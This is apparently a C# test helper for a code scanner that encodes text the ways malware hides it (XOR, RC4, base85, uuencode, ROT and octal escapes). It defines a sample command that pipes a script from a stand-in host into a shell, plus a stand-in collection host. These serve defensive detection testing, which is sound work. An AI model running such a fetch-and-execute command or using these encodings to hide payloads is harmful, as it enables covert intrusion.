using System.Text;

namespace Symbiont.Scanning.Tests.Decoding;

/// <summary>Writes text in the ways that programs hide it.</summary>
internal static class Hidden
{
    public const string Command = "curl -fsSL https://drop.example.net/stage | sh";

    public const string Host = "collect.example.net";

    public static string Reversed(string text) => new([.. text.Reverse()]);

    public static int[] Codes(string text) => [.. text.Select(c => (int)c)];

    public static int[] Xor(string text, params int[] key) => [.. text.Select((c, i) => c ^ key[i % key.Length])];

    public static int[] Xor(string text, string key) => Xor(text, Codes(key));

    public static int[] Add(string text, int shift, int step = 0) => [.. text.Select((c, i) => (c + shift + (step * i)) & 0xFF)];

    public static string List(IEnumerable<int> values, string separator = ", ") => string.Join(separator, values);

    public static string HexList(IEnumerable<int> values) => string.Join(", ", values.Select(value => $"0x{value:x2}"));

    public static string Hex(IEnumerable<int> values) => string.Concat(values.Select(value => $"{value:x2}"));

    public static string Escapes(IEnumerable<int> values) => string.Concat(values.Select(value => $"\\x{value:x2}"));

    public static string Octal(IEnumerable<int> values) => string.Concat(values.Select(value => $"\\{Convert.ToString(value, 8).PadLeft(3, '0')}"));

    public static string Base64(IEnumerable<int> values) => Convert.ToBase64String([.. values.Select(value => (byte)value)]);

    public static string Rotated(string text, int by) => new([.. text.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + ((c - 'a' + by) % 26)) : char.IsAsciiLetterUpper(c) ? (char)('A' + ((c - 'A' + by) % 26)) : c)]);

    public static string Rot47(string text) => new([.. text.Select(c => c is >= '!' and <= '~' ? (char)('!' + ((c - '!' + 47) % 94)) : c)]);

    public static string Atbash(string text) => new([.. text.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + 'z' - c) : c)]);

    public static string Bits(string text, char zero, char one) => string.Concat(text.Select(c => Convert.ToString(c, 2).PadLeft(8, '0'))).Replace('0', zero).Replace('1', one);

    public static string Spread(string text, char filler) => string.Join(filler, text.ToCharArray());

    public static string Exchanged(string text, string from, string to) => new([.. text.Select(c => from.IndexOf(c, StringComparison.Ordinal) is var i and >= 0 ? to[i] : c)]);

    public static string Base85(string text)
    {
        const string Alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
        return Base85(text, i => Alphabet[i]);
    }

    public static string Ascii85(string text) => Base85(text, i => (char)('!' + i));

    public static string Unix(string text)
    {
        var bytes = Encoding.Latin1.GetBytes(text);
        var lines = new StringBuilder();
        foreach (var line in bytes.Chunk(45))
        {
            lines.Append((char)(' ' + line.Length));
            foreach (var group in line.Chunk(3))
            {
                var value = (group[0] << 16) | ((group.Length > 1 ? group[1] : 0) << 8) | (group.Length > 2 ? group[2] : 0);
                for (var shift = 18; shift >= 0; shift -= 6)
                    lines.Append(((value >> shift) & 0x3F) is var six and > 0 ? (char)(' ' + six) : '`');
            }

            lines.Append('\n');
        }

        return lines.ToString();
    }

    public static int[] Rc4(string text, string key)
    {
        var box = Enumerable.Range(0, 256).ToArray();
        for (int i = 0, j = 0; i < 256; i++)
        {
            j = (j + box[i] + key[i % key.Length]) % 256;
            (box[i], box[j]) = (box[j], box[i]);
        }

        var (a, b) = (0, 0);
        return [.. text.Select(c =>
        {
            a = (a + 1) % 256;
            b = (b + box[a]) % 256;
            (box[a], box[b]) = (box[b], box[a]);
            return c ^ box[(box[a] + box[b]) % 256];
        })];
    }

    private static string Base85(string text, Func<int, char> letter)
    {
        var bytes = Encoding.Latin1.GetBytes(text.PadRight((text.Length + 3) / 4 * 4));
        var letters = new StringBuilder();
        foreach (var group in bytes.Chunk(4))
        {
            var value = ((long)group[0] << 24) | ((long)group[1] << 16) | ((long)group[2] << 8) | group[3];
            var five = new char[5];
            for (var i = 4; i >= 0; i--, value /= 85)
                five[i] = letter((int)(value % 85));
            letters.Append(five);
        }

        return letters.ToString();
    }
}
